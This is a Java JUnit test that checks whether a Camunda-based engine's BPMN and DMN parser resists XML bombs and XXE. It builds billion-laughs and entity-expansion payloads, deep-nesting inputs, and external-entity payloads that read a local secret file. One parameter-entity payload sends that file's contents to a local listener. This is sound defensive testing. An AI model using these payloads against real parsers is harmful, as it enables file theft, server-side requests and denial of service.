package dev.baton.delegates.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import com.sun.management.ThreadMXBean;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.camunda.bpm.engine.ProcessEngineException;
import org.camunda.bpm.engine.repository.Deployment;
import org.camunda.bpm.model.bpmn.Bpmn;
import org.camunda.bpm.model.dmn.Dmn;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Models whose XML was made to read files, to ask other servers or to grow without end: the engine's parser does none of
 * it, whoever hands one in.
 */
class ModelBombsTest extends EdgeTest {
    private static final Duration LONGEST = Duration.ofSeconds(10);
    private static final long MOST_MEMORY = 1L << 30;
    private static final String SECRET = "the-secret-of-the-house";
    private static final String BPMN = """
            <?xml version="1.0" encoding="UTF-8"?>
            %s
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:xi="http://www.w3.org/2001/XInclude"
                xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
                id="Definitions_Bomb" targetNamespace="http://baton.dev/test" %s>
              <bpmn:process id="bomb" name="Bomb" isExecutable="true" camunda:historyTimeToLive="P30D">
                <bpmn:documentation>%s</bpmn:documentation>
                <bpmn:startEvent id="Start" name="Start" />
              </bpmn:process>
            </bpmn:definitions>
            """;
    private static final String DMN = """
            <?xml version="1.0" encoding="UTF-8"?>
            %s
            <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:xi="http://www.w3.org/2001/XInclude"
                xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
                id="Definitions_Bomb" name="Bomb" namespace="http://baton.dev/test" %s>
              <decision id="bomb" name="Bomb" camunda:historyTimeToLive="P30D">
                <description>%s</description>
                <decisionTable id="Table"><output id="Output" name="x" typeRef="string" /></decisionTable>
              </decision>
            </definitions>
            """;

    @TempDir
    Path folder;

    private final List<Deployment> deployed = new ArrayList<>();
    private final AtomicInteger asked = new AtomicInteger();
    private ServerSocket elsewhere;

    @BeforeEach
    void a_secret_and_a_server() throws IOException {
        Files.writeString(folder.resolve("secret"), SECRET);
        elsewhere = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
        var server = elsewhere;
        var listening = new Thread(
                () -> {
                    while (!server.isClosed()) {
                        try (var socket = server.accept()) {
                            asked.incrementAndGet();
                            socket.getOutputStream()
                                    .write("HTTP/1.0 404 no\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                        } catch (IOException closed) {
                            return;
                        }
                    }
                },
                "elsewhere");
        listening.setDaemon(true);
        listening.start();
    }

    @AfterEach
    void nothing_of_it_stays() throws IOException {
        deployed.forEach(each -> repository.deleteDeployment(each.getId(), true));
        elsewhere.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"bpmn", "dmn"})
    void what_grows_without_end_is_refused_in_no_time(String kind) {
        var laughs = new StringBuilder("<!ENTITY lol0 \"lol\">");
        IntStream.range(1, 12)
                .forEach(n -> laughs.append("<!ENTITY lol%d \"%s\">"
                        .formatted(n, "&lol%d;".formatted(n - 1).repeat(10))));
        refused(kind, "<!DOCTYPE d [" + laughs + "]>", "", "&lol11;");
        refused(kind, "<!DOCTYPE d [" + laughs + "]>", "x=\"&lol11;\"", "");
        refused(kind, "<!DOCTYPE d [<!ENTITY a \"" + "a".repeat(500_000) + "\">]>", "", "&a;".repeat(20_000));
        refused(kind, "<!DOCTYPE d [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "", "&a;");
        refused(kind, "<!DOCTYPE d [<!ENTITY % a '%b;'><!ENTITY % b '%a;'>%a;]>", "", "");
        refused(
                kind,
                "",
                IntStream.range(0, 200_000).mapToObj(n -> "a" + n + "=\"b\"").collect(Collectors.joining(" ")),
                "");
    }

    @ParameterizedTest
    @ValueSource(strings = {"bpmn", "dmn"})
    void no_file_and_no_other_server_is_read(String kind) {
        var file = folder.resolve("secret").toUri();
        var server = "http://127.0.0.1:" + elsewhere.getLocalPort() + "/x";
        for (var address : List.of(
                file.toString(),
                server,
                "jar:" + server + "!/y",
                "ftp://127.0.0.1:" + elsewhere.getLocalPort() + "/x")) {
            tells(kind, "<!DOCTYPE d [<!ENTITY a SYSTEM \"" + address + "\">]>", "", "&a;");
            tells(kind, "<!DOCTYPE d [<!ENTITY % a SYSTEM \"" + address + "\">%a;]>", "", "");
            tells(kind, "<!DOCTYPE d SYSTEM \"" + address + "\">", "", "");
            tells(kind, "<!DOCTYPE d PUBLIC \"x\" \"" + address + "\">", "", "");
            tells(kind, "", "xsi:schemaLocation=\"http://www.omg.org/spec/BPMN/20100524/MODEL " + address + "\"", "");
            tells(kind, "", "", "<xi:include href=\"" + address + "\" parse=\"text\"/>");
            tells(kind, "<?xml-stylesheet type=\"text/xsl\" href=\"" + address + "\"?>", "", "");
        }
        tells(
                kind,
                "<!DOCTYPE d [<!ENTITY % file SYSTEM \"" + file + "\"><!ENTITY % all \"<!ENTITY send SYSTEM '" + server
                        + "?%file;'>\">%all;]>",
                "",
                "&send;");

        assertThat(asked).hasValue(0);
    }

    @ParameterizedTest
    @ValueSource(strings = {"bpmn", "dmn"})
    void elements_in_elements_do_not_end_the_stack(String kind) {
        var deep = "<x>".repeat(100_000) + "</x>".repeat(100_000);
        refused(kind, "", "", deep);
        refused(kind, "<!DOCTYPE d [<!ENTITY a \"x\">]>", "", "&a;" + deep);
    }

    private void refused(String kind, String head, String attributes, String text) {
        assertThat(tells(kind, head, attributes, text)).isTrue();
    }

    /** Hands it in; whether it was refused. Whatever became of it, it took little and tells no secret. */
    private boolean tells(String kind, String head, String attributes, String text) {
        var model = (kind.equals("dmn") ? DMN : BPMN).formatted(head, attributes, text);
        var memory = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        var before = memory.getThreadAllocatedBytes(Thread.currentThread().getId());
        var started = System.nanoTime();

        var failure = catchThrowable(() -> deployed.add(
                repository.createDeployment().addString("bomb." + kind, model).deploy()));

        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(LONGEST);
        assertThat(memory.getThreadAllocatedBytes(Thread.currentThread().getId()) - before)
                .isLessThan(MOST_MEMORY);
        if (failure == null) {
            assertThat(read(kind)).doesNotContain(SECRET);
            return false;
        }
        assertThat(failure).isInstanceOf(ProcessEngineException.class);
        for (var cause = failure; cause != null; cause = cause.getCause()) {
            assertThat(String.valueOf(cause.getMessage())).doesNotContain(SECRET);
        }
        return true;
    }

    /** What the engine made of the newest one. */
    private String read(String kind) {
        if (kind.equals("dmn")) {
            var id = repository
                    .createDecisionDefinitionQuery()
                    .decisionDefinitionKey("bomb")
                    .latestVersion()
                    .singleResult()
                    .getId();
            return Dmn.convertToString(repository.getDmnModelInstance(id));
        }
        var id = repository
                .createProcessDefinitionQuery()
                .processDefinitionKey("bomb")
                .latestVersion()
                .singleResult()
                .getId();
        return Bpmn.convertToString(repository.getBpmnModelInstance(id));
    }
}
